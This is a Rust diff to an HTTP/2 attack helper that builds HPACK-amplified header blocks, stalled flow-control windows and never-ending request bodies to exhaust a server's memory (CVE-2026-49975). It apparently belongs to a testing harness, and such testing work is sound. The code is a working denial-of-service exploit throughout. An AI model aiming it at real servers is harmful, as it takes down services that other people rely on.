@@ -123,54 +123,71 @@ impl Flood {
 
 /// Requests that are small on the wire and large in memory, and a client that takes nothing of the responses
 /// (CVE-2026-49975).
-#[derive(Debug, Clone, Copy)]
+#[derive(Debug, Clone)]
 pub struct Bomb {
     pub connections: usize,
     pub streams: u32,
     /// Field lines of each request, of one byte each.
     pub fields: usize,
-    /// `cookie: ` instead of many names.
+    /// They are all `cookie: a=b`, and not of many names.
     pub cookies: bool,
-    /// What each stream may be sent.
+    /// What each response may send.
     pub window: u32,
-    /// Said when all requests are there.
+    /// The same, said anew when all requests are there.
     pub window_after: Option<u32>,
     /// The requests promise a body that never comes.
     pub without_end: bool,
+    /// What is asked for.
+    pub path: String,
+}
+
+impl Default for Bomb {
+    /// Requests within the limits, and no window.
+    fn default() -> Self {
+        Self {
+            connections: 20,
+            streams: 100,
+            fields: 95,
+            cookies: false,
+            window: 0,
+            window_after: None,
+            without_end: false,
+            path: "/".to_owned(),
+        }
+    }
 }
 
 impl Bomb {
-    /// Requests within the limits, and no window.
-    pub const PLAIN: Self = Self {
-        connections: 20,
-        streams: 100,
-        fields: 95,
-        cookies: false,
-        window: 0,
-        window_after: None,
-        without_end: false,
-    };
-
     /// Sends all of it. The connections stay open, and may be closed from the other side.
     pub fn drop_on(&self, address: SocketAddr) -> Vec<Connection> {
         (0..self.connections).map(|_| self.connection(address)).collect()
     }
 
+    /// Lets each response of these connections send one byte.
+    pub fn trickle(&self, connections: &mut [Connection]) {
+        let updates: Vec<u8> = (0..self.streams).flat_map(|at| frames::window_update(2 * at + 1, 1)).collect();
+        for connection in connections {
+            let _ = connection.write(&updates);
+        }
+    }
+
     fn connection(&self, address: SocketAddr) -> Connection {
+        /// The largest frame that everybody takes is a little longer.
+        const FRAGMENT: usize = 16_000;
         let mut connection = Connection::open(address, &[(frames::INITIAL_WINDOW_SIZE, self.window)]);
-        let flags = frames::END_HEADERS | if self.without_end { 0 } else { frames::END_STREAM };
+        let end_stream = if self.without_end { 0 } else { frames::END_STREAM };
         for at in 0..self.streams {
-            let block = self.block(at == 0);
-            let (first, rest) = block.split_at(block.len().min(16_000));
-            let mut request =
-                frames::frame(frames::HEADERS, if rest.is_empty() { flags } else { flags & 1 }, 2 * at + 1, first);
-            let mut pieces = rest.chunks(16_000).peekable();
-            while let Some(piece) = pieces.next() {
-                let flags = if pieces.peek().is_none() { frames::END_HEADERS } else { 0 };
-                request.extend(frames::frame(frames::CONTINUATION, flags, 2 * at + 1, piece));
-            }
-            if connection.write(request).is_err() {
-                return connection;
+            let (stream, block) = (2 * at + 1, self.block(at == 0));
+            let mut fragments = block.chunks(FRAGMENT).enumerate().peekable();
+            while let Some((place, fragment)) = fragments.next() {
+                let end_headers = if fragments.peek().is_none() { frames::END_HEADERS } else { 0 };
+                let frame = match place {
+                    0 => frames::frame(frames::HEADERS, end_stream | end_headers, stream, fragment),
+                    _ => frames::frame(frames::CONTINUATION, end_headers, stream, fragment),
+                };
+                if connection.write(frame).is_err() {
+                    return connection;
+                }
             }
         }
         if let Some(window) = self.window_after {
@@ -179,23 +196,29 @@ impl Bomb {
         connection
     }
 
-    /// The first fills the dynamic table, of which all take their fields.
+    /// The first fills the dynamic table, of which all others take their lines.
     fn block(&self, first: bool) -> Vec<u8> {
-        /// Names that one byte can stand for.
+        /// Names that one byte can stand for, besides the path and the authority.
         const NAMES: usize = 60;
-        let method = if self.without_end { frames::POST } else { frames::GET };
-        let mut block = method.to_vec();
+        /// The newest entry of the dynamic table: behind the static one.
+        const NEWEST: usize = 62;
         let names = if self.cookies { 1 } else { NAMES.min(self.fields) };
+        let index = |at: usize| 0x80 | u8::try_from(NEWEST + at).expect("there are few names");
+        let mut block = vec![if self.without_end { 0x83 } else { 0x82 }, 0x86];
         if first {
-            let name = |at: usize| match self.cookies {
+            let length = u8::try_from(self.path.len()).ok().filter(|length| *length < 0x7f);
+            block.extend([0x44, length.expect("the path is short")]);
+            block.extend(self.path.as_bytes());
+            block.extend(b"\x41\x01x");
+            block.extend((0..names).flat_map(|at| match self.cookies {
                 true => frames::indexed_field("cookie", "a=b"),
                 false => frames::indexed_field(&format!("a{at}"), ""),
-            };
-            block.extend((0..names).flat_map(name));
+            }));
+        } else {
+            block.extend([index(names + 1), index(names)]);
         }
         let left = self.fields - if first { names } else { 0 };
-        // The newest entry of the dynamic table is behind the 61 of the static one.
-        block.extend((0..left).map(|at| 0x80 | (62 + at % names) as u8));
+        block.extend((0..left).map(|at| index(at % names)));
         block
     }
 }
